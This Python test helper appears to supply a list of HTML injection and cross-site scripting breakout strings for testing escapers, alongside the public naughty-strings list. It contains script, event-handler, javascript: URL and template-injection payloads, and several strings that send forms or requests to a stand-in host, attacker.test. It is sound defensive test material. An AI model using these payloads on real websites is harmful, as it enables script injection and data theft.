"""Texts that have broken other programs: the public list, and ways out of elements, attributes and scripts."""

import json

from world import VECTORS, Skipped

# Each tries to say so when it runs. The quotation marks with a combining mark after them are one character to some escapers.
BREAKOUTS = [
    "<script>window.attacked=1</script>", "<img src=x onerror=window.attacked=1>", "\"><svg onload=window.attacked=1>", "'><svg onload=window.attacked=1>",
    "\"\u0301 autofocus onfocus=window.attacked=1 x=", "\"\u0338><svg/onload=window.attacked=1>", "'\u0301 onmouseover=window.attacked=1 '",
    "\"\u20dd onfocus=window.attacked=1 autofocus ", "<\u0338img src=x onerror=window.attacked=1>", "&\u0301lt;script>", "<\u20d2script>window.attacked=1</script>",
    "\">\u0300<iframe srcdoc=\"<script>parent.attacked=1</script>\">", "\"\ufe0f onfocus=window.attacked=1 autofocus x=\"", "\"\u200d onfocus=window.attacked=1 autofocus ",
    "</title><script>window.attacked=1</script>", "</textarea><script>window.attacked=1</script>", "</style><script>window.attacked=1</script>",
    "--><script>window.attacked=1</script>", "]]><script>window.attacked=1</script>", "javascript:window.attacked=1", "JaVaScRiPt:window.attacked=1",
    "java\tscript:window.attacked=1", "data:text/html,<script>opener.attacked=1</script>", "vbscript:x", "{{constructor.constructor('window.attacked=1')()}}",
    "${window.attacked=1}", "#{window.attacked=1}", "<%= 1 %>", "{{{return}}}", "{{&name}}", "{{#person}}x{{/person}}", "{{=<% %>=}}", "{{>field}}",
    "<base href=https://attacker.test/>", "<meta http-equiv=refresh content=0;url=https://attacker.test/>", "<link rel=stylesheet href=https://attacker.test/x.css>",
    "<form action=https://attacker.test/><input name=x>", "\" formaction=\"https://attacker.test/", "<style>*{display:none}</style>", "\" style=\"position:fixed;inset:0\" x=\"",
    "<a href=javascript:window.attacked=1>x</a>", "<object data=https://attacker.test/>", "<embed src=https://attacker.test/>", "<math><mtext><img src=x onerror=window.attacked=1>",
    "<noscript><p title=\"</noscript><img src=x onerror=window.attacked=1>\">", "<template><script>window.attacked=1</script></template>", "<details open ontoggle=window.attacked=1>",
    "<input autofocus onfocus=window.attacked=1>", "<body onload=window.attacked=1>", "<x onpointerrawupdate=window.attacked=1>", "\u202e<b>\u202c", "\ufeff<script>",
    "+ADw-script+AD4-window.attacked=1+ADw-/script+AD4-", "\u00bcscript\u00bewindow.attacked=1\u00bc/script\u00be", "\uff1cscript\uff1ewindow.attacked=1\uff1c/script\uff1e",
    "<svg><animate onbegin=window.attacked=1 attributeName=x dur=1s>", "<img src=\"https://attacker.test/pixel\">", "__proto__", "constructor", "toString",
]


def texts():
    """Every text of the list, then ours. Skips the test when the list is not here."""
    file = VECTORS / "blns.json"
    if not file.is_file():
        raise Skipped(f"the list of naughty strings is not at {'/'.join(file.parts[-4:])}")
    return list(dict.fromkeys([text for text in json.loads(file.read_text(encoding="utf-8")) if text] + BREAKOUTS))
